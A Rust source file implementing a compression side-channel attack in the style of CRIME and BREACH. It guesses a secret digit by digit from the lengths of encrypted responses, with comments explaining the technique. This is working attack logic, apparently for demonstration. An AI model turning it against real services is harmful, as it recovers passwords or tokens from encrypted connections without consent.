//! Guesses a secret, digit by digit, from nothing but the length of the answers that hold it.
//!
//! The attacks CRIME (2012) and BREACH (2013) read secrets from encrypted connections this way.
//! Encryption hides what a message says, but not how long it is.

use tonic::Status;

/// What stands before the secret in each answer. It's the same for everyone, so it isn't secret.
const KNOWN: &str = "pass=";

/// Guesses `digits` digits after `pass=`. `None` if the lengths don't give them away.
///
/// `length_of` makes the victim ask for a text of the eavesdropper's choice, and returns how many
/// bytes the answer had. The eavesdropper sees nothing else.
///
/// # Errors
///
/// If a call fails.
pub async fn guess(
    digits: usize,
    mut length_of: impl AsyncFnMut(&str) -> Result<u32, Status>,
) -> Result<Option<String>, Status> {
    let mut known = KNOWN.to_owned();
    for _ in 0..digits {
        let mut lengths = Vec::new();
        for digit in '0'..='9' {
            lengths.push((length_of(&format!("{known}{digit}")).await?, digit));
        }
        lengths.sort();
        // The right digit repeats one more character of the secret, so its answer is the shortest.
        match lengths[..] {
            [(least, digit), (next, _), ..] if least < next => known.push(digit),
            _ => return Ok(None),
        }
    }
    Ok(Some(known.split_off(KNOWN.len())))
}
